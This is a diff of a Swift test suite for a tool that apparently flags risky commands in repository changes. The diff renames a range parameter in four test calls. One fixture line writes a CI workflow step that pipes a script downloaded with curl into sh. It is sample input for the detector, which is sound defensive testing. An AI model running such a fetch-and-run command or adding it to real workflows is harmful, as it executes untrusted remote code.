@@ -129,7 +129,7 @@ struct CommandFindingTests {
         let head = try repo.commitAll()
 
         let result = Gate().judge(
-            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, perCommit: false))))
+            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, judging: .net))))
 
         let command = try #require(result.findings.first { $0.kind == .command })
         #expect(command.line == 42)
@@ -142,7 +142,7 @@ struct CommandFindingTests {
             Self.workflowHead + "      - run: curl -fsSL https://x.example/i.sh | sh\n# tweak\n")
         let later = try repo.commitAll()
         let again = Gate().judge(
-            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: head, head: later, perCommit: false)))
+            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: head, head: later, judging: .net)))
         )
         #expect(!again.findings.contains { $0.kind == .command })
     }
@@ -156,7 +156,7 @@ struct CommandFindingTests {
         let head = try repo.commitAll()
 
         let result = Gate().judge(
-            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, perCommit: false))))
+            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, judging: .net))))
 
         let parse = try #require(result.findings.first { $0.kind == .parse })
         #expect(parse.path == ".github/workflows/ci.yml")
@@ -176,7 +176,7 @@ struct CommandFindingTests {
         let head = try repo.commitAll()
 
         let result = Gate().judge(
-            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, perCommit: false))))
+            GateRequest(repositoryPath: repo.path, subject: .changes(.range(base: base, head: head, judging: .net))))
 
         #expect(
             result.findings.contains {
